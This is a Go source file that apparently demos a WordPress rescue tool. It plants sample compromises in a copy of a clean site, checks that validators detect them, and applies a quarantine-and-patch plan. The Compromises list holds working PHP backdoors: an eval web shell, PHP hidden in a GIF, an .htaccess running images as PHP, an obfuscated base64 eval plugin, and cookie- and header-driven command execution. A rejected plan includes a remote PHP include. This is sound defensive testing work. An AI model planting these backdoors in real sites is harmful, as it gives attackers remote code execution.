package demo

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/architectos/aos"
)

// Compromise is one file [RunSite] plants in the copy of the site: a
// compromise of a kind the validators detect, and how the rescue plan
// undoes it.
type Compromise struct {
	Path string
	// Content is the whole file, or with Append the line added at the
	// end of the file the site holds there.
	Content string
	Append  bool
	// What the validators should say of it.
	Why string
}

// Compromises are what [RunSite] plants, of the kinds the php-malware
// validator detects: a web shell and PHP in an image under uploads, an
// .htaccess that runs images as PHP, a plugin whose name is folded from
// strings, a backdoor appended to a real plugin, and a hidden plugin
// reading commands from a header.
var Compromises = []Compromise{
	{Path: "wp-content/uploads/2024/05/thumb.php", Content: "<?php @eval($_POST['x']); ?>\n", Why: "web shell in uploads"},
	{Path: "wp-content/uploads/2024/05/logo.gif", Content: "GIF89a\x01\x00\x01\x00\x00\x00\x00;<?php system($_GET['c']); ?>\n", Why: "PHP inside an image"},
	{Path: "wp-content/uploads/.htaccess", Content: "AddHandler application/x-httpd-php .gif\n", Why: ".htaccess runs images as PHP"},
	{Path: "wp-content/plugins/wp-cache-helper/wp-cache-helper.php", Content: "<?php\n/* Plugin Name: WP Cache Helper */\n$f = 'bas' . 'e64_dec' . 'ode';\n@eval($f($_REQUEST['payload']));\n", Why: "eval of request data through a folded name"},
	{Path: "wp-content/plugins/akismet/akismet.php", Content: "if (isset($_COOKIE['wp_sid'])) { @system($_COOKIE['wp_sid']); }\n", Append: true, Why: "backdoor appended to a real plugin"},
	{Path: "wp-content/mu-plugins/health.php", Content: "<?php\n$x = explode('~', base64_decode(substr(getallheaders()['X-Health'], 1)));\n@$x[0]($x[1]);\n", Why: "function named by a request header"},
}

// SiteOptions configure [RunSite].
type SiteOptions struct {
	Options
	// Site is a pristine WordPress tree (Debian's /usr/share/wordpress):
	// its checksums are made from it, and the rescue runs on a copy of it
	// with [Compromises] planted.
	Site string
}

// RunSite runs the rescue on a real WordPress tree:
//
//  1. makes the checksums of the pristine tree, copies it (links
//     followed) and plants [Compromises] in the copy;
//  2. git aos rescuewp init turns the copy into a repository with the
//     RescueWP manifest;
//  3. git aos validate --all assesses it: every compromise is found;
//  4. a plan that writes into the core is rejected;
//  5. the rescue plan quarantines the compromises, removes the appended
//     backdoor and keeps PHP out of uploads, with php -l of the site in
//     bubblewrap; it is proposed and applied;
//  6. the result is verified and in the audit log, and validate --all of
//     the result finds the core intact and nothing left.
//
// It needs bubblewrap and php; any step that does not end as it should
// is an error.
func RunSite(ctx context.Context, opts SiteOptions) error {
	for _, p := range []struct{ cmd, pkg string }{{"bwrap", "bubblewrap"}, {"php", "php-cli"}} {
		if _, err := exec.LookPath(p.cmd); err != nil {
			return aos.WithHint(fmt.Errorf("demo --site runs php -l in bubblewrap: %s is not installed", p.cmd), "apt-get install "+p.pkg)
		}
	}
	if !bwrapWorks() {
		return errors.New("demo --site: bubblewrap cannot make a sandbox here")
	}
	if fi, err := os.Stat(filepath.Join(opts.Site, "wp-includes", "version.php")); err != nil || !fi.Mode().IsRegular() {
		return aos.Usage(aos.WithHint(fmt.Errorf("--site %s: not a WordPress tree (no wp-includes/version.php)", opts.Site), "apt-get install wordpress, then --site /usr/share/wordpress"))
	}
	top := opts.Keep
	if top != "" {
		abs, err := filepath.Abs(top)
		if err != nil {
			return err
		}
		top = abs
	}
	if top == "" {
		tmp, err := os.MkdirTemp("", "aos-demo-site-")
		if err != nil {
			return err
		}
		defer os.RemoveAll(tmp)
		top = tmp
	} else if _, err := os.Stat(top); err == nil {
		return fmt.Errorf("%s: %w", top, ErrExists)
	} else if err := os.MkdirAll(top, 0o755); err != nil {
		return err
	}
	dir := filepath.Join(top, "site")
	w := opts.Out
	start := time.Now()
	step := func(want int, what, in string, args ...string) error {
		fmt.Fprintf(w, "\n$ git aos %s\n", strings.Join(args, " "))
		if code := opts.Aos(ctx, in, w, args...); code != want {
			if err := ctx.Err(); err != nil {
				return err
			}
			return fmt.Errorf("demo: %s (exit %d, want %d)", what, code, want)
		}
		return nil
	}
	git := func(args ...string) error {
		fmt.Fprintf(w, "\n$ git %s\n", strings.Join(args, " "))
		c := exec.CommandContext(ctx, "git", args...)
		c.Dir = dir
		c.Stdout, c.Stderr = w, w
		return c.Run()
	}

	if opts.Keep != "" {
		fmt.Fprintf(w, "RescueWP on the WordPress tree %s, in %s, kept afterwards\n", opts.Site, top)
	} else {
		fmt.Fprintf(w, "RescueWP on the WordPress tree %s, in a temporary directory, removed at the end: run git aos demo --site DIR --keep DIR to keep it\n", opts.Site)
	}
	fmt.Fprintln(w, "\n== 1. The checksums of the pristine tree; a copy of it, compromised")
	sums := filepath.Join(top, "wp-core-checksums.json")
	if err := step(aos.ExitOK, "checksums failed", top, "rescuewp", "checksums", "-o", sums, opts.Site); err != nil {
		return err
	}
	if err := copyTree(opts.Site, dir); err != nil {
		return err
	}
	patch, err := plant(dir)
	if err != nil {
		return err
	}
	for _, c := range Compromises {
		fmt.Fprintf(w, "planted %s: %s\n", c.Path, c.Why)
	}

	fmt.Fprintln(w, "\n== 2. The site becomes a repository with the RescueWP manifest")
	if err := step(aos.ExitOK, "rescuewp init failed", top, "rescuewp", "init", dir, "--checksums", sums); err != nil {
		return err
	}
	for _, kv := range [][2]string{{"user.name", "RescueWP operator"}, {"user.email", "operator@rescuewp.example"}} {
		if err := exec.CommandContext(ctx, "git", "-C", dir, "config", kv[0], kv[1]).Run(); err != nil {
			return err
		}
	}
	initDone := time.Since(start)

	fmt.Fprintln(w, "\n== 3. The assessment of the whole site: every compromise is found")
	var assessment bytes.Buffer
	fmt.Fprintf(w, "\n$ git aos validate --all\n")
	if code := opts.Aos(ctx, dir, &assessment, "validate", "--all"); code != aos.ExitRejected {
		w.Write(assessment.Bytes())
		return fmt.Errorf("demo: the assessment did not reject the compromised site (exit %d)", code)
	}
	w.Write(assessment.Bytes())
	for _, c := range Compromises {
		if !strings.Contains(assessment.String(), c.Path+":") {
			return fmt.Errorf("demo: the assessment missed %s (%s)", c.Path, c.Why)
		}
	}

	plans := filepath.Join(top, "plans")
	if err := os.MkdirAll(plans, 0o755); err != nil {
		return err
	}
	// The steps name the plans relative to the repository, as a user in
	// it would.
	overreach := filepath.Join("..", "plans", "overreach.yaml")
	rescue := filepath.Join("..", "plans", "rescue.yaml")
	if err := os.WriteFile(filepath.Join(plans, "overreach.yaml"), []byte(siteOverreach), 0o644); err != nil {
		return err
	}
	if err := os.WriteFile(filepath.Join(plans, "rescue.yaml"), []byte(sitePlan(patch)), 0o644); err != nil {
		return err
	}
	fmt.Fprintln(w, "\n== 4. A plan that writes into WordPress's core is rejected")
	if err := step(aos.ExitRejected, "the plan writing into the core was not rejected", dir, "plan", "check", overreach); err != nil {
		return err
	}

	fmt.Fprintln(w, "\n== 5. The rescue plan: quarantine, patch, php -l in bubblewrap; proposed, then applied")
	if err := step(aos.ExitOK, "propose failed", dir, "propose", rescue); err != nil {
		return err
	}
	const branch = "aos/rescue-site"
	if err := step(aos.ExitOK, "apply failed", dir, "apply", branch); err != nil {
		return err
	}

	fmt.Fprintln(w, "\n== 6. The result, verified, in the audit log; the site assessed again")
	if err := git("show", "--name-status", "--format=%s", branch); err != nil {
		return err
	}
	if err := step(aos.ExitOK, "verify failed", dir, "verify", branch); err != nil {
		return err
	}
	if err := step(aos.ExitOK, "log failed", dir, "log", branch); err != nil {
		return err
	}
	if err := step(aos.ExitOK, "the rescued site still has findings", dir, "validate", "--all", "--rev", branch); err != nil {
		return err
	}
	fmt.Fprintf(w, "\nrescuewp init in %s, whole demo in %s\n", initDone.Round(time.Millisecond), time.Since(start).Round(time.Millisecond))
	if opts.Keep != "" {
		fmt.Fprintf(w, "demo ok: the site's repository is in %s (cd there; git aos log, git aos verify %s)\n", dir, branch)
	} else {
		fmt.Fprintln(w, "demo ok: the temporary directory is removed (--keep DIR keeps it to explore)")
	}
	return nil
}

// copyTree copies the tree at src to dst, following symbolic links to
// files (Debian links bundled libraries into its WordPress tree).
func copyTree(src, dst string) error {
	return filepath.WalkDir(src, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, err := filepath.Rel(src, p)
		if err != nil {
			return err
		}
		to := filepath.Join(dst, rel)
		if d.IsDir() {
			return os.MkdirAll(to, 0o755)
		}
		fi, err := os.Stat(p)
		if err != nil {
			return fmt.Errorf("copy %s: %w", p, err)
		}
		if fi.IsDir() {
			return fmt.Errorf("copy %s: a link to a directory", p)
		}
		if !fi.Mode().IsRegular() {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(to, data, 0o644)
	})
}

// plant writes [Compromises] into the site at dir and returns the patch
// that takes the appended line out again.
func plant(dir string) (string, error) {
	var patch string
	for _, c := range Compromises {
		p := filepath.Join(dir, filepath.FromSlash(c.Path))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return "", err
		}
		if !c.Append {
			if err := os.WriteFile(p, []byte(c.Content), 0o644); err != nil {
				return "", err
			}
			continue
		}
		old, err := os.ReadFile(p)
		if err != nil {
			return "", fmt.Errorf("plant: %w", err)
		}
		lines := strings.SplitAfter(string(old), "\n")
		if lines[len(lines)-1] == "" {
			lines = lines[:len(lines)-1]
		}
		n := len(lines)
		if n < 3 || !strings.HasSuffix(string(old), "\n") {
			return "", fmt.Errorf("plant: %s is too short or does not end with a newline", c.Path)
		}
		if err := os.WriteFile(p, append(old, c.Content...), 0o644); err != nil {
			return "", err
		}
		var b strings.Builder
		fmt.Fprintf(&b, "diff --git a/%s b/%s\n--- a/%s\n+++ b/%s\n@@ -%d,4 +%d,3 @@\n", c.Path, c.Path, c.Path, c.Path, n-2, n-2)
		for _, l := range lines[n-3:] {
			b.WriteString(" " + l)
		}
		b.WriteString("-" + c.Content)
		patch = b.String()
	}
	return patch, nil
}

const siteOverreach = `version: 1
id: overreach-core
goal: Drop a loader into wp-includes
directives:
  - type: FILE_WRITE
    path: wp-includes/wp-vcd.php
    content: "<?php include 'http://example.invalid/x.txt';\n"
  - type: QUARANTINE
    path: wp-includes/version.php
`

// sitePlan is the rescue plan, with patch taking the appended backdoor out.
func sitePlan(patch string) string {
	var b strings.Builder
	b.WriteString(`version: 1
id: rescue-site
goal: |
  Quarantine the web shell, the image holding PHP, the .htaccess that runs
  images as PHP and the two backdoor plugins; take the backdoor out of
  Akismet; keep PHP from running in uploads; lint every PHP file.
directives:
  - type: LS
    path: wp-content/uploads/2024/05
`)
	for _, c := range Compromises {
		if c.Append {
			continue
		}
		fmt.Fprintf(&b, "  - type: QUARANTINE\n    path: %s\n    reason: %q\n", c.Path, c.Why)
	}
	b.WriteString("  - type: APPLY_PATCH\n    patch: |\n")
	for _, l := range strings.SplitAfter(patch, "\n") {
		if l != "" {
			b.WriteString("      " + l)
		}
	}
	b.WriteString(`  - type: FILE_WRITE
    path: wp-content/uploads/.htaccess
    content: |
      # No PHP runs from uploads.
      <FilesMatch "\.(php|phtml|phar|phps)$">
        Require all denied
      </FilesMatch>
  - type: RUN_TESTS
    suite: php_lint
`)
	return b.String()
}
